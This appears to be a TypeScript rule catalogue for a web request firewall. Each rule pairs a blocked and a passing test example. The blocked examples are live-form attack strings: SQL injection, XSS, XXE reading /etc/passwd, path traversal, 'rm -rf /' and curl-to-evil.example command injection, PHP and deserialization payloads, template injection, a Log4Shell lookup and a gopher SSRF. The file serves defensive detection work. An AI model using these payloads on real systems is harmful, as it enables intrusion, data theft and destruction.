/**
 * The catalogue of the request firewall. The ids are part of the interface: an id is never used for something else, and a rule
 * that ends leaves its id unused. docs/api/firewall.md is written from here; both examples of each rule are run by a test.
 */
import { isScanner } from './agents.ts';
import { readsBack, runsCode } from './code.ts';
import { chains, substitutes } from './commands.ts';
import { asksForHidden, climbs, holdsControls, namesSystemPath } from './paths.ts';
import { abusesProtocol, filtersDirectory, isOperatorKey, looksUp, splitsHeader } from './protocol.ts';
import { breaksAttribute, breaksString, carriesScript, declaresEntity, isScriptUrl, runsScript } from './script.ts';
import { breaksOut, callsDatabase, cutsOff, goesOn, unites } from './sql.ts';
import type { Level, Place, Subject } from './subject.ts';
import { computes } from './templates.ts';

export type Severity = 'critical' | 'high' | 'medium' | 'low';

/** How a text was written: as it stands, or in an encoding that was undone to get it. */
export type Reading = { isEncoded: boolean };

export type Rule = {
  readonly id: string;
  readonly severity: Severity;
  readonly finds: string;
  readonly blocked: Example;
  readonly passes: Example;
  /** Where it is looked for; everywhere but in user agents unless given. */
  readonly places?: readonly Place[];
  /** One of these characters has to be there, or nothing is looked for; any text unless given. */
  readonly needs?: string;
  readonly judge: (subject: Subject, reading: Reading) => Level;
};

type Example = { readonly place: Place | 'agent'; readonly text: string };

const prose = (text: string): Example => ({ place: 'prose', text });
const TEXTS: readonly Place[] = ['prose', 'strict', 'file-name', 'path', 'header', 'key'];

export const RULES = [
  {
    id: 'sql-breakout',
    severity: 'critical',
    finds:
      'SQL that ends the value it is put into and goes on with the statement: a condition, a clause, a function or a statement behind a quote, a number or a parenthesis.',
    blocked: prose("' OR '1'='1"),
    passes: prose('O\'Brien & Sons -- "select" terms <draft>; drop by'),
    needs: '\'"=();|&#*-',
    judge: breaksOut,
  },
  {
    id: 'sql-comment',
    severity: 'high',
    finds: 'A quote with a comment directly behind it, which cuts off the rest of a statement.',
    blocked: prose("admin'--"),
    passes: prose("The tenants' -- and the landlord's -- duties"),
    needs: '\'"',
    judge: cutsOff,
  },
  {
    id: 'sql-union',
    severity: 'critical',
    finds: 'UNION SELECT with columns, wherever it stands, except in a sentence about it.',
    blocked: prose('x UNION ALL SELECT null, version()'),
    passes: prose('Union Select Committee: minutes of 3 May'),
    judge: unites,
  },
  {
    id: 'sql-statement',
    severity: 'critical',
    finds:
      'A second statement behind a semicolon, or a condition that is always true, cut off or at the end of the text.',
    blocked: prose('x; DROP TABLE users --'),
    passes: prose('SQL course: SELECT name FROM customers WHERE city = 2; then joins'),
    needs: '=;|&',
    judge: goesOn,
  },
  {
    id: 'sql-function',
    severity: 'high',
    finds: 'Calls and selects in parentheses that payloads use to wait, to read files or to bring data out in errors.',
    blocked: prose('extractvalue(1, concat(0x7e, (select user())))'),
    passes: prose('How to sleep (8 hours) before the benchmark'),
    needs: "('",
    judge: callsDatabase,
  },
  {
    id: 'script-tag',
    severity: 'critical',
    finds: 'A script element with code in it or an address to load it from.',
    blocked: prose('<script>alert(1)</script>'),
    passes: prose('Training: the <script> element in HTML'),
    needs: '<',
    judge: runsScript,
  },
  {
    id: 'script-element',
    severity: 'high',
    finds:
      'Any element that would run script: by an event handler, a script as its address, an active style, or because it loads a page by itself.',
    blocked: prose('<img src=x onerror=alert(1)>'),
    passes: prose('Prices <500 EUR, see <b>Annex A</b> and <anna@example.com>'),
    needs: '<',
    judge: carriesScript,
  },
  {
    id: 'script-attribute',
    severity: 'high',
    finds: 'A quote that ends an attribute and begins an event handler.',
    blocked: prose('" onmouseover="alert(1)'),
    passes: prose('"Based on": the offer, on site = at the customer\'s'),
    needs: '=',
    judge: breaksAttribute,
  },
  {
    id: 'script-url',
    severity: 'high',
    finds: 'An address that is a script: `javascript:`, `vbscript:`, `data:text/html`.',
    blocked: prose('javascript:alert(document.cookie)'),
    passes: prose('JavaScript: The Good Parts'),
    needs: ':',
    judge: isScriptUrl,
  },
  {
    id: 'script-string',
    severity: 'high',
    finds: 'A quote that ends a string of a script, with a call behind it, or code that reaches for cookies and pages.',
    blocked: prose("';alert(1)//"),
    passes: prose("The 'prompt' payment; alert (by e-mail) on delay"),
    needs: '(`=[<',
    judge: breaksString,
  },
  {
    id: 'xml-entity',
    severity: 'high',
    finds: 'An entity or a document type by which a parser of XML reads other files.',
    blocked: prose('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    passes: prose('Entity <Holding> and its system <draft>'),
    needs: '<',
    judge: declaresEntity,
  },
  {
    id: 'path-traversal',
    severity: 'high',
    finds: 'Steps up out of a folder: three and more, with a file of the system behind them, or as all there is.',
    blocked: prose('../../../etc/passwd'),
    passes: prose('See ../annex for more ... and/or call us'),
    needs: '/\\',
    judge: climbs,
  },
  {
    id: 'path-system-file',
    severity: 'high',
    finds: 'The path of a file of the system, as all there is.',
    blocked: prose('/etc/passwd'),
    passes: prose('C:\\Users\\Anna\\Documents\\Contract.docx'),
    needs: '/\\.:',
    judge: namesSystemPath,
  },
  {
    id: 'path-hidden',
    severity: 'medium',
    finds:
      'A request for files and folders that begin with a dot (`/.well-known` aside), and for what servers of other kinds keep private.',
    blocked: { place: 'path', text: '/backup/.config/app' },
    passes: { place: 'path', text: '/.well-known/security.txt' },
    places: ['path'],
    judge: asksForHidden,
  },
  {
    id: 'control-character',
    severity: 'high',
    finds: 'A zero byte, which ends a name for some programs; in what programs send, any other control character.',
    blocked: { place: 'file-name', text: 'contract.php%00.pdf' },
    passes: { place: 'file-name', text: 'contract 100%.pdf' },
    judge: (subject, { isEncoded }) => holdsControls(subject, isEncoded),
  },
  {
    id: 'command-chain',
    severity: 'critical',
    finds:
      'A shell command that continues another one: behind `;`, `|`, `&` or a line break, with arguments or as the end.',
    blocked: prose('report.pdf; rm -rf /'),
    passes: prose('Terms | sort order; find below, cat & dog; date & sign'),
    needs: ';|&\n\r',
    judge: chains,
  },
  {
    id: 'command-substitution',
    severity: 'critical',
    finds: 'A shell command in the place of a value: `$(…)`, backticks, `<(…)`, `${IFS}`.',
    blocked: prose('$(curl http://evil.example/x)'),
    passes: prose('Introduction to shells: `ls`, `cd` and `rm` in one day'),
    needs: '$`<>',
    judge: substitutes,
  },
  {
    id: 'command-code',
    severity: 'critical',
    finds:
      'Code that a server would run: functions of Bash in variables, server-side includes, PHP, calls of `system` and its like.',
    blocked: prose("<?php system('id'); ?>"),
    passes: prose('The system (as delivered) may exec changes'),
    needs: '(/<-',
    judge: runsCode,
  },
  {
    id: 'command-object',
    severity: 'high',
    finds:
      'Objects as programs write them down, which run code when they are read, and formulas of spreadsheets that start programs.',
    blocked: prose('O:8:"Evil_Obj":1:{s:3:"cmd";s:2:"id";}'),
    passes: prose('= 5 % of the total, type: "A"'),
    needs: '!:"=+@|\n',
    judge: readsBack,
  },
  {
    id: 'template-expression',
    severity: 'critical',
    finds: 'An expression of a template engine that computes, calls or reaches an object.',
    blocked: prose('{{7*7}}'),
    passes: prose('Dear {{first_name}}, sign at {{signature:1}} for ${amount}'),
    needs: '{<_@#[$',
    judge: computes,
  },
  {
    id: 'lookup-jndi',
    severity: 'critical',
    finds: 'A lookup that a logger would carry out: `${jndi:…}` however it is spelled.',
    blocked: prose('${${lower:j}ndi:ldap://evil.example/a}'),
    passes: prose('Total: ${price} per ${unit}'),
    needs: '$',
    judge: looksUp,
  },
  {
    id: 'header-split',
    severity: 'high',
    finds: 'A line break with a header of HTTP or of a mail behind it.',
    blocked: prose('contract%0d%0aSet-Cookie: session=1'),
    passes: prose('Dear Anna,\r\nSubject: our offer\r\nLocation: Berlin'),
    needs: '\r\n\u2028\u560a\u560d',
    judge: (subject, { isEncoded }) => splitsHeader(subject, isEncoded),
  },
  {
    id: 'header-misuse',
    severity: 'medium',
    finds:
      'Headers in a form that proxies and servers read differently (lengths, encodings, hosts, connections, ranges), and headers that only attackers send a server such as this.',
    blocked: { place: 'header', text: 'Transfer-Encoding: xchunked' },
    passes: { place: 'header', text: 'Transfer-Encoding: chunked' },
    places: [],
    judge: () => 0,
  },
  {
    id: 'protocol-abuse',
    severity: 'high',
    finds:
      'Addresses of protocols that make a server read its own files or call its neighbours, and of the metadata of clouds.',
    blocked: prose('gopher://127.0.0.1:6379/_FLUSHALL'),
    passes: prose('About the file: see https://example.com/a and ftp access'),
    needs: ':.',
    judge: abusesProtocol,
  },
  {
    id: 'ldap-filter',
    severity: 'medium',
    finds: 'A filter of a directory that is ended, with another one behind it.',
    blocked: prose('*)(uid=*))(|(uid=*'),
    passes: prose('Costs (a)(b) = 5 * (c)'),
    needs: '*(',
    judge: filtersDirectory,
  },
  {
    id: 'operator-key',
    severity: 'medium',
    finds: 'An operator of a document database, or the prototype of an object, as the name of a member or a parameter.',
    blocked: { place: 'key', text: '$ne' },
    passes: { place: 'key', text: 'amount_in_$' },
    needs: '$_.[@',
    judge: isOperatorKey,
  },
  {
    id: 'encoding-double',
    severity: 'medium',
    finds:
      'Something encoded twice: of what programs send, any sign that matters; of text, whatever another rule finds in it.',
    blocked: prose('%253Cscript%253Ealert(1)%253C/script%253E'),
    passes: prose('Save 20%25 with https://example.com/?a=b%20c'),
    // Found by judge.ts, which undoes the encodings.
    places: [],
    judge: () => 0,
  },
  {
    id: 'encoding-overlong',
    severity: 'high',
    finds: 'UTF-8 with more bytes than its character takes, which only hides it.',
    blocked: prose('..%c0%af..%c0%afetc'),
    passes: prose('Caf%C3%A9'),
    places: [],
    judge: () => 0,
  },
  {
    id: 'scanner-agent',
    severity: 'medium',
    finds: 'The user agent of a program that looks for holes.',
    blocked: { place: 'agent', text: 'sqlmap/1.8.4#stable (https://sqlmap.org)' },
    passes: { place: 'agent', text: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' },
    places: [],
    judge: isScanner,
  },
] as const satisfies readonly Rule[];

export type RuleId = (typeof RULES)[number]['id'];

/** The rules that a text of a place is put before, in the order in which they are named. */
export const rulesFor = (place: Place): readonly Rule[] =>
  (RULES as readonly Rule[]).filter(({ places }) => (places ?? TEXTS).includes(place));
